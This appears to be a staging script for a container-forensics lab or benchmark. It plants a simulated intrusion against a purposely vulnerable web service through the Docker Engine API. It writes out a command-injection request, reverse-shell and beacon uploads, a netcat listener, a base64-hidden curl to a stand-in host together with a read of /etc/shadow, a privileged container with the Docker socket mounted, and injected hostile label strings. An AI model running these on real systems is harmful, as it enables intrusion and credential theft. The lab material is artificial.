// Plants the incident: containers through the Engine API, the intrusion through the web service's hole, as it would be.
import { randomBytes } from 'node:crypto';
import { createReadStream, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { api, apiJson, bytes, containerPath, lab } from './host.mjs';
import * as hostile from './hostile.mjs';
import { imageArchives } from './image.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const payload = (name) => readFileSync(join(here, 'payload', name), 'utf8');

export const CONTAINERS = ['shop-web', 'update-relay', 'node-agent', 'shop-migrate', `odd.${'n'.repeat(190)}`];
export const [WEB, RELAY, AGENT, MIGRATE, ODD] = CONTAINERS;
export const VOLUME = 'shop-backup';
export const NETWORK = 'shop-net';
export const IMAGES = { busybox: 'lab/busybox:1', web: 'shop/web:1.4.2' };
export const sinkName = (host) => `${host.name}-sink`;
export const PORT = 8080;

/** What the intruder's exec says; it is in the engine's events and nowhere else. */
export const EXEC_WORDS = [
  'sh',
  '-c',
  'echo Y3VybCBodHRwOi8vdXBkYXRlLWNkbi5leGFtcGxlL3N0YWdlMg== | base64 -d >/dev/shm/.k; cat /etc/shadow',
];
/** An exec that is still running when the examiner comes. */
export const EXEC_STAYS = ['sh', '-c', 'while :; do sleep 600; done # keepalive-7c21'];

/** Removes all that `stage` makes on a host. What is not there is no error. */
export async function clear(host) {
  const gone = { ok: [200, 204, 404, 409] };
  await Promise.all(CONTAINERS.map((name) => api(host, 'DELETE', `/containers/${name}?force=1&v=1`, gone)));
  await Promise.all([
    api(host, 'DELETE', `/networks/${NETWORK}`, gone),
    api(host, 'DELETE', `/volumes/${VOLUME}?force=1`, gone),
    ...Object.values(IMAGES).map((name) => api(host, 'DELETE', `/images/${name}?force=1`, gone)),
  ]);
}

const has = async (host, name) => (await api(host, 'GET', `/images/${name}/json`, { ok: [200, 404] })).status === 200;

async function images(host, archives) {
  const from = (path) => ({ body: createReadStream(path), type: 'application/x-tar' });
  const checked = async (work) => {
    const said = (await work).bytes.toString();
    if (said.includes('"errorDetail"')) throw new Error(`the engine refused an image: ${said.slice(-300)}`);
  };
  const [repo, tag] = IMAGES.busybox.split(':');
  await Promise.all([
    (await has(host, IMAGES.busybox)) ||
      checked(api(host, 'POST', `/images/create?fromSrc=-&repo=${repo}&tag=${tag}`, from(archives.busybox))),
    (await has(host, IMAGES.web)) || checked(api(host, 'POST', '/images/load?quiet=1', from(archives.web))),
  ]);
}

async function run(host, name, config) {
  const made = await api(host, 'POST', `/containers/create?name=${name}`, { body: config });
  const { Id } = JSON.parse(made.bytes.toString());
  await api(host, 'POST', `/containers/${Id}/start`);
  return Id;
}

async function exec(host, container, words, options = {}) {
  const made = await api(host, 'POST', `/containers/${container}/exec`, {
    body: { Cmd: words, AttachStdout: !options.detach, ...options.config },
  });
  const { Id } = JSON.parse(made.bytes.toString());
  await api(host, 'POST', `/exec/${Id}/start`, { body: { Detach: Boolean(options.detach) } });
  return Id;
}

const shell = (text, ...more) => ['sh', '-c', text, ...more];
const FOREVER = 'while :; do sleep 3600; done';

function relayConfig() {
  // Listens for the reverse shell, types into it, and keeps what comes back as its log.
  const typed = 'printf "id\\nuname -a\\ncat /etc/shop.conf\\n"; while :; do sleep 3600; done';
  return {
    Image: IMAGES.busybox,
    Cmd: shell(`while :; do { ${typed}; } | nc -l -p 4444; done`),
    HostConfig: { NetworkMode: NETWORK },
  };
}

function webConfig(sink) {
  return {
    Image: IMAGES.web,
    Env: [
      'DB_HOST=db',
      'DB_PASSWORD=hunter2-prod',
      'AWS_ACCESS_KEY_ID=AKIALABONLYNOTAKEY00',
      'AWS_SECRET_ACCESS_KEY=labOnly/wJalrXUtnFEMI/NOTAKEY',
    ],
    ExposedPorts: { [`${PORT}/tcp`]: {} },
    HostConfig: {
      NetworkMode: NETWORK,
      Dns: [sink],
      PortBindings: { [`${PORT}/tcp`]: [{ HostIp: '0.0.0.0', HostPort: String(PORT) }] },
      Binds: [`${VOLUME}:/var/backups/shop`],
      Tmpfs: { '/run/shop': 'size=1m' },
      LogConfig: { Type: 'json-file', Config: {} },
      Init: false,
    },
  };
}

const agentConfig = () => ({
  Image: IMAGES.busybox,
  Cmd: shell(`ls /host/root >/data/seen; ${FOREVER}`),
  Labels: { 'com.example.role': 'monitoring' },
  HostConfig: {
    Privileged: true,
    Binds: ['/var/run/docker.sock:/var/run/docker.sock', '/:/host'],
    RestartPolicy: { Name: 'always' },
  },
});

const migrateConfig = () => ({
  Image: IMAGES.busybox,
  Cmd: shell(
    'echo migrating 3 tables; echo "admin:\\$1\\$labonly\\$notahash" >/root/loot.txt; echo error: connection reset >&2; exit 3',
  ),
  HostConfig: { NetworkMode: 'none' },
});

function oddConfig() {
  const names = hostile.FILE_NAMES.map((name) => `: >"./$(printf '${hostile.octal(name)}')"`).join('\n');
  const lines = hostile.LOG_LINES.filter((line) => line.length < 20_000)
    .map((line) => `printf '${hostile.octal(line)}\\n'`)
    .join('\n');
  const wide = "head -c 40000 /dev/zero | tr '\\0' W; echo";
  // The odd argument comes in by printf, as JSON can carry no broken UTF-8.
  const stay = `exec sh -c '${FOREVER}' "$(printf '${hostile.octal(Buffer.concat([Buffer.from(hostile.ESCAPES), hostile.BROKEN]))}')" "$0"`;
  return {
    Image: IMAGES.busybox,
    Cmd: shell(
      `mkdir -p /data/odd; cd /data/odd\n${names}\nmkdir -p ${hostile.DEEP.slice(0, -4)}; : >${hostile.DEEP}\n${lines}\n${wide}\n${stay}`,
      hostile.HTML,
    ),
    Env: [
      `ODD_ESCAPES=${hostile.ESCAPES}`,
      `ODD_BIDI=${hostile.BIDI}`,
      `ODD_HTML=${hostile.HTML}`,
      `ODD_FORGED=${hostile.FORGED}`,
      `ODD_LONG=${hostile.LONG}`,
    ],
    Labels: {
      'odd.escapes': hostile.ESCAPES,
      'odd.bidi': hostile.BIDI,
      'odd.html': hostile.HTML,
      'odd.formula': hostile.FORMULA,
      'odd.forged': hostile.FORGED,
      'odd.invisible': hostile.INVISIBLE,
      'odd.shell': hostile.SHELL,
      'odd.long': hostile.LONG,
      [hostile.PROTO]: hostile.HTML,
      [hostile.BIDI]: 'a key can be odd too',
    },
    HostConfig: { NetworkMode: 'none' },
  };
}

/** One HTTP request as bytes; Node's own client refuses what an intruder sends. `wait` false: the answer is not awaited. */
function http(host, head, body = Buffer.alloc(0), wait = true) {
  return new Promise((resolve, reject) => {
    const socket = connect(PORT, host.address, () => {
      socket.write(Buffer.concat([Buffer.from(head), Buffer.from(`Content-Length: ${body.length}\r\n\r\n`), body]));
      if (!wait) setTimeout(() => resolve(socket.destroy()), 50);
    });
    socket.setTimeout(10_000, () => socket.destroy(new Error('the staged web service does not answer')));
    socket
      .on('data', () => {})
      .on('error', reject)
      .on('close', resolve);
  });
}

async function answers(host) {
  for (let n = 0; ; n++) {
    try {
      return await http(host, 'GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n');
    } catch (error) {
      if (n === 50) throw error;
      await sleep(100);
    }
  }
}

async function intrude(host, secret, relay, sink) {
  const agents = [hostile.ESCAPES, hostile.HTML, hostile.BIDI].map(
    (text) => `GET /?q=1 HTTP/1.1\r\nUser-Agent: ${text}\r\n`,
  );
  const masked = Buffer.from(secret)
    .map((byte) => byte ^ 0x5a)
    .toString('hex');
  const files = ['revsh.pl', 'beacon.pl', 'memfd.pl', 'attack.sh'].map((name) => [name, payload(name)]);
  files.push(['memory.pl', payload('memory.pl').replace('@MASKED@', masked)]);
  for (const [name, text] of files)
    await http(host, `POST /upload/${name} HTTP/1.1\r\nUser-Agent: curl/8.1\r\n`, Buffer.from(text));
  for (const agent of agents) await http(host, agent);
  const command = `;exec sh /srv/shop/uploads/attack.sh ${relay} ${sink}`;
  await http(
    host,
    `GET /ping?host=${encodeURIComponent(command)} HTTP/1.1\r\nUser-Agent: curl/8.1\r\n`,
    undefined,
    false,
  );
}

/** Waits until the intruder's script has said it is done. */
async function intruded(host, pid) {
  const out = containerPath(host, pid, '/srv/shop/uploads/.out');
  for (let n = 0; n < 100; n++) {
    if (bytes(out)?.toString().trimEnd().endsWith('done')) return;
    await sleep(100);
  }
  throw new Error(`the intruder's script did not end: ${bytes(out)?.toString().slice(-400) ?? '(it never began)'}`);
}

/** Plants everything on a host that is up. Gives what the items are made from. `say` is told each step. */
export async function plant(host, say) {
  const [sinkLine, base] = await Promise.all([lab('up-light', sinkName(host), host.name), lab('base'), clear(host)]);
  const sink = { name: sinkName(host), address: sinkLine.split('\n').at(-1).split(' ')[1] };
  const sinkRoot = `/proc/${await lab('pid', sink.name)}/root`;
  // What an earlier staging left there must not stand for this one.
  for (const path of ['/var/log/sink.jsonl', '/srv/received'])
    rmSync(sinkRoot + path, { recursive: true, force: true });
  for (const path of ['/srv/www', '/srv/received']) mkdirSync(sinkRoot + path, { recursive: true });
  writeFileSync(`${sinkRoot}/srv/www/_stage2`, '#!/bin/sh\n# second stage of the staged incident: does nothing\n');
  say('images');
  const archives = imageArchives(base.split('\n').at(-1));
  await Promise.all([
    images(host, archives),
    api(host, 'POST', '/networks/create', { body: { Name: NETWORK, Driver: 'bridge' } }),
    api(host, 'POST', '/volumes/create', { body: { Name: VOLUME, Labels: { note: hostile.BIDI } } }),
  ]);
  const volume = (await apiJson(host, `/volumes/${VOLUME}`)).Mountpoint;
  const rows = Array.from(
    { length: 500 },
    (_, i) => `${i},customer${i}@shop.example,4111-1111-1111-${String(i).padStart(4, '0')}`,
  );
  writeFileSync(`${host.root}${volume}/customers.csv`, `id,mail,card\n${rows.join('\n')}\n`);
  say('containers');
  const ids = {};
  const start = async (name, config) => {
    ids[name] = await run(host, name, config);
  };
  await Promise.all([
    start(RELAY, relayConfig()).then(() => start(WEB, webConfig(sink.address))),
    start(AGENT, agentConfig()),
    start(MIGRATE, migrateConfig()),
    start(ODD, oddConfig()),
  ]);
  say('the intrusion');
  const secret = `memory-only-${randomBytes(12).toString('hex')}`;
  const pid = (await apiJson(host, `/containers/${WEB}/json`)).State.Pid;
  await answers(host);
  await intrude(host, secret, RELAY, sink.address);
  await Promise.all([
    intruded(host, pid),
    exec(host, WEB, EXEC_WORDS),
    exec(host, AGENT, EXEC_STAYS, { detach: true, config: { Privileged: true } }),
  ]);
  return { ids, sink, secret, volume, webId: archives.webId, webLayers: archives.webLayers };
}

/** Whether a host has a truth.json, and where. */
export const truthPath = (host) => join(host.dir, 'truth.json');
export const readTruth = (host) =>
  existsSync(truthPath(host)) ? JSON.parse(readFileSync(truthPath(host), 'utf8')) : undefined;
